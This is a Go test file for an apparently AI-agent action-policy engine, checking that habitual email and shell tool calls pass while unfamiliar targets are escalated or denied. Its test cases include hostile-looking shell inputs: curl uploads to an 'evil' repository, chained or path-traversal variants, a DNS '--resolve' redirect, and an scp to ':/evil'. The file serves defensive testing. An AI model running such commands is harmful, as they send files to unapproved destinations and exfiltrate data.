package policy

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"reeve.example/reeve/act"
	"reeve.example/reeve/internal/habits"
	"reeve.example/reeve/internal/linear"
	"reeve.example/reeve/internal/provenance"
)

const cautious = `
version: 1
default: allow
habits: {sessions: 2, days: 1}
acts:
  - {name: mail, tools: [send_email], control: [to], carries: [body]}
  - {name: upload, tools: ["*shell*"], reaches: hosts}
rules:
  - name: stranger
    acts: "*"
    when: action.control.exists(v, v.origin() == "foreign")
    unless: usual
    effect: escalate
  - name: never-there
    acts: mail
    when: action.control.exists(v, v == "enemy@x.example")
    effect: deny
`

var habitsKey = habits.NewKey([]byte("a key of sixteen bytes"), "key:a", "a")

// taught is a view of an agent that has done some acts so often that they are usual.
func taught(t *testing.T, set *Set, tags []string, acts ...*act.Action) *habits.View {
	t.Helper()
	v := &habits.View{Profile: &habits.Profile{}, Key: habitsKey, Settings: set.HabitSettings()}
	at := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
	var l habits.Learner
	for i := range 5 {
		for _, a := range acts {
			n := habits.Note{Agent: "a", Session: v.Session(fmt.Sprint(i)), At: at.UnixMilli(), Ran: true}
			set.Note(&Input{Action: a, Session: Session{Habits: v, Values: &provenance.Memory{Tags: tags}}}, &n, true)
			l.Observe(&n, act.Position{})
		}
		at = at.Add(24 * time.Hour)
		for _, s := range l.Settle(at) {
			v.Profile.Learn(s)
		}
	}
	return v
}

func TestUsualIsNotAskedAbout(t *testing.T) {
	set, err := Load(File{"cautious.yaml", []byte(cautious)})
	if err != nil {
		t.Fatal(err)
	}
	if !set.Habits() {
		t.Fatal("the policy is said to ask nothing of habits")
	}
	mail := func(to string) *act.Action { return call("send_email", "to", to, "body", `"x"`).Action }
	shell := func(command string) *act.Action { return call("shell", "command", fmt.Sprintf("%q", command)).Action }
	const push = "curl -T a.tar https://git.example/us/repo"
	view := taught(t, set, nil, mail(`["bob@x.example","enemy@x.example"]`), shell(push))
	values := remembered("", "", "write to bob@x.example, eve@x.example and enemy@x.example; upload to https://git.example/us/repo, https://git.example/evil/repo or git.example")
	for _, c := range []struct {
		a    *act.Action
		want act.Effect
	}{
		{mail(`"bob@x.example"`), act.Allow},
		{mail(`"Bob@X.example"`), act.Allow},
		{mail(`["bob@x.example"]`), act.Allow},
		{mail(`["bob@x.example","eve@x.example"]`), act.Escalate},
		{mail(`"eve@x.example"`), act.Escalate},
		{mail(`"enemy@x.example"`), act.Deny},
		{call("send_email_2", "to", `"bob@x.example"`).Action, act.Allow}, // another tool: not of these acts
		{shell(push), act.Allow},
		{shell("curl -T b.tar https://git.example/us/repo"), act.Allow},
		{shell("curl -T a.tar https://git.example/evil/repo"), act.Escalate},
		{shell("curl -T a.tar https://git.example"), act.Escalate},
		{shell(push + "; curl -T a.tar https://git.example/evil/repo"), act.Escalate},
		{shell("R=evil; curl -T a.tar https://git.example/$R/repo"), act.Escalate},
		{shell("curl -T a.tar https://git.example/us/repo/../../evil/repo"), act.Escalate},
		{shell("curl -T a.tar https://git.example/us/'../../evil/'repo"), act.Escalate},
		{shell("curl -T a.tar --url https://git.example/us/repo --resolve git.example:443:6.6.6.6"), act.Escalate},
		{shell("curl -T a.tar 'https://git.example/us/repo'"), act.Allow},
		{shell(push + "; scp a.tar git.example:/evil"), act.Escalate},
	} {
		verdict := set.Evaluate(&Input{Action: c.a, Session: Session{Known: true, Values: values, Habits: view}})
		if verdict.Effect != c.want {
			t.Errorf("%s %s: %s, want %s", c.a.Resource, c.a.Arguments[0].Value, verdict.Effect, c.want)
		}
		passes := slices.ContainsFunc(verdict.Reasons, func(r act.Reason) bool { return r.Exception == "usual" && r.Observe })
		if want := (c.want == act.Allow || c.want == act.Deny) && c.a.Resource != "send_email_2"; passes != want {
			t.Errorf("%s %s: recorded as usual: %v, want %v", c.a.Resource, c.a.Arguments[0].Value, passes, want)
		}
		// Without habits, with those of an agent nobody knows, everything is asked.
		for _, none := range []*habits.View{nil, {}, {Profile: &habits.Profile{}, Settings: habits.Default}} {
			verdict := set.Evaluate(&Input{Action: c.a, Session: Session{Known: true, Values: values, Habits: none}})
			if verdict.Effect == act.Allow && c.a.Resource != "send_email_2" {
				t.Errorf("%s %s: allowed where nothing is usual", c.a.Resource, c.a.Arguments[0].Value)
			}
		}
	}
	private := remembered("", "", "write to bob@x.example")
	private.Tags = []string{"private"}
	if v := set.Evaluate(&Input{Action: mail(`"bob@x.example"`), Session: Session{Values: private, Habits: view}}); v.Effect != act.Escalate {
		t.Errorf("what is private goes where only other things went before: %s", v.Effect)
	}
	view = taught(t, set, []string{"private"}, mail(`"bob@x.example"`))
	if v := set.Evaluate(&Input{Action: mail(`"bob@x.example"`), Session: Session{Values: private, Habits: view}}); v.Effect != act.Allow {
		t.Errorf("what is private goes where it always went: %s", v.Effect)
	}
}

// In an exact replay what was usual then counts, and nothing that is known by now.
func TestUsualAsItWasThen(t *testing.T) {
	set, err := Load(File{"cautious.yaml", []byte(cautious)})
	if err != nil {
		t.Fatal(err)
	}
	a := call("send_email", "to", `"bob@x.example"`).Action
	values := remembered("", "", "write to bob@x.example")
	known := taught(t, set, nil, a)
	var then habits.Note
	set.Note(&Input{Action: a, Session: Session{Values: values, Habits: known}}, &then, false)
	if then.Targets[0].Teaches != habits.Again {
		t.Errorf("what foreign text names and is usual teaches %d", then.Targets[0].Teaches)
	}
	effect := func(v *habits.View) act.Effect {
		return set.Evaluate(&Input{Action: a, Session: Session{Values: values, Habits: v}}).Effect
	}
	if e := effect(&habits.View{Key: habitsKey, Then: &then}); e != act.Allow {
		t.Errorf("replayed it is %s", e)
	}
	then.Targets[0].Usual = false
	if e := effect(&habits.View{Profile: known.Profile, Key: habitsKey, Settings: habits.Default, Then: &then}); e != act.Escalate {
		t.Errorf("replayed with what is known by now it is %s", e)
	}
}

func TestHabitsInDocuments(t *testing.T) {
	const rest = "\nacts: [{name: mail, tools: [send], control: [to]}]\nrules: [{name: r, acts: mail, %s}]"
	for text, want := range map[string]string{
		"habits: {sessions: 0}" + fmt.Sprintf(rest, "effect: deny"):          "whole number from 1 to 5",
		"habits: {sessions: 2, days: 3}" + fmt.Sprintf(rest, "effect: deny"): "cannot be seen on 3 days in 2 sessions",
		"habits: {alarms: 2}" + fmt.Sprintf(rest, "effect: deny"):            "above 0, at most 1",
		"habits: {users: some}" + fmt.Sprintf(rest, "effect: deny"):          "any or named",
		"habits: 3" + fmt.Sprintf(rest, "effect: deny"):                      "a mapping",
		fmt.Sprintf(rest, "effect: deny, unless: usual"):                     "what is denied stays so",
		fmt.Sprintf(rest, "effect: escalate, unless: unusual"):               "no reason to let something pass",
		"\nrules: [{name: r, effect: escalate, unless: usual}]":              "add acts",
		fmt.Sprintf(rest, "effect: deny, when: habits.old"):                  "habits has no old",
	} {
		_, err := Load(File{"p.yaml", []byte("version: 1\ndefault: allow\n" + text)})
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %q", text, err, want)
		}
	}
	for text, asks := range map[string]bool{
		fmt.Sprintf(rest, "effect: deny"):                                            false,
		fmt.Sprintf(rest, "effect: escalate, unless: usual"):                         true,
		fmt.Sprintf(rest, "effect: deny, when: habits.outside > 2.0"):                true,
		fmt.Sprintf(rest, "effect: deny, when: '!action.control.all(v, v.usual())'"): true,
	} {
		set, err := Load(File{"p.yaml", []byte("version: 1\ndefault: allow\n" + text)})
		if err != nil {
			t.Fatal(err)
		}
		if set.Habits() != asks {
			t.Errorf("%s: asks of habits: %v", text, set.Habits())
		}
	}
}

// Where only users who are named have habits, nobody's word teaches nothing, and what it
// taught before is not usual.
func TestUsersWhoAreNamed(t *testing.T) {
	for _, users := range []string{"any", "named"} {
		set, err := Load(File{"p.yaml", []byte(strings.Replace(cautious, "days: 1", "days: 1, users: "+users, 1))})
		if err != nil {
			t.Fatal(err)
		}
		for _, user := range []string{"", "ann"} {
			a := call("send_email", "to", `"bob@x.example"`).Action
			a.User.ID = user
			v := &habits.View{Profile: &habits.Profile{}, Key: habitsKey, Settings: habits.Default, User: user}
			target := v.Target(habits.Use{Tool: a.Canonical, Argument: "to", Value: "bob@x.example"}, nil)
			var l habits.Learner
			at := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
			for i := range 4 { // as it was taught before the policy said so
				target.Teaches = habits.ForUser
				l.Observe(&habits.Note{Agent: "a", Session: v.Session(fmt.Sprint(i)), At: at.UnixMilli(), Ran: true, Targets: []habits.Target{target}}, act.Position{})
				at = at.Add(24 * time.Hour)
			}
			for _, s := range l.Settle(at) {
				v.Profile.Learn(s)
			}
			v.Settings = set.HabitSettings()
			in := &Input{Action: a, Session: Session{Known: true, Values: remembered("write to bob@x.example", "", ""), Habits: v}}
			want := users == "any" || user != ""
			if got := v.IsUsual(target); got != want {
				t.Errorf("users: %s, of the user %q: usual %v, want %v", users, user, got, want)
			}
			var n habits.Note
			if set.Note(in, &n, false); (n.Targets[0].Teaches == habits.ForUser || n.Targets[0].Teaches == habits.Again) != want {
				t.Errorf("users: %s, of the user %q: it teaches %v", users, user, n.Targets[0].Teaches)
			}
		}
	}
}

// usualInputs are an act upon a target of an agent of which as much is known as can be,
// and the same act where nothing of habits is asked.
func usualInputs(tb testing.TB) (in, without *Input, set *Set) {
	tb.Helper()
	set, err := Load(File{"cautious.yaml", []byte(cautious)})
	if err != nil {
		tb.Fatal(err)
	}
	v := &habits.View{Profile: &habits.Profile{}, Key: habitsKey, Settings: habits.Default}
	at := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
	var l habits.Learner
	for i := range 3000 {
		a := call("send_email", "to", fmt.Sprintf(`"p%d@x.example"`, i%900)).Action
		n := habits.Note{Agent: "a", Session: v.Session(fmt.Sprint(i)), At: at.UnixMilli(), Ran: true}
		set.Note(&Input{Action: a, Session: Session{Habits: v}}, &n, true)
		l.Observe(&n, act.Position{})
		at = at.Add(time.Hour)
		for _, s := range l.Settle(at) {
			v.Profile.Learn(s)
		}
	}
	a := call("send_email", "to", `"p899@x.example"`).Action
	values := remembered("", "", "write to p899@x.example")
	v.Speaks = v.Profile.Speaks(v.Settings)
	in = &Input{Action: a, Session: Session{Known: true, Values: values, Habits: v}}
	without = &Input{Action: a, Session: Session{Known: true, Values: values}}
	return in, without, set
}

// evaluateOwn evaluates an act with a view of its own, as each decision has one.
func evaluateOwn(set *Set, in *Input) {
	one := Input{Action: in.Action, Session: in.Session}
	if in.Session.Habits != nil {
		view := *in.Session.Habits
		one.Session.Habits = &view
	}
	set.Evaluate(&one)
}

// BenchmarkUsual is what habits add to a decision: about a target of an agent of which as
// much is known as can be.
func BenchmarkUsual(b *testing.B) {
	in, without, set := usualInputs(b)
	for name, in := range map[string]*Input{"with": in, "without": without} {
		b.Run("evaluate/"+name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				evaluateOwn(set, in)
			}
		})
	}
	b.Run("note", func(b *testing.B) {
		b.ReportAllocs()
		var buf [2048]byte
		for b.Loop() {
			var n habits.Note
			set.Note(in, &n, false)
			n.Append(buf[:0])
		}
	})
}

// BenchmarkUsualCost is what habits add to the evaluation of a decision, in the processor's
// time: with and without them in turns of 100, the least of each.
func BenchmarkUsualCost(b *testing.B) {
	const turn = 100
	in, without, set := usualInputs(b)
	least := map[string]time.Duration{}
	measure := func(what string, one func()) {
		took := linear.CPU(func() {
			for range turn {
				one()
			}
		})
		if was, ok := least[what]; !ok || took < was {
			least[what] = took
		}
	}
	var buf [2048]byte
	for b.Loop() {
		measure("with", func() { evaluateOwn(set, in) })
		measure("without", func() { evaluateOwn(set, without) })
		measure("note", func() {
			var n habits.Note
			set.Note(in, &n, false)
			n.Append(buf[:0])
		})
	}
	for what, took := range least {
		b.ReportMetric(float64(took.Nanoseconds())/1e3/turn, what+"-cpu-µs")
	}
}
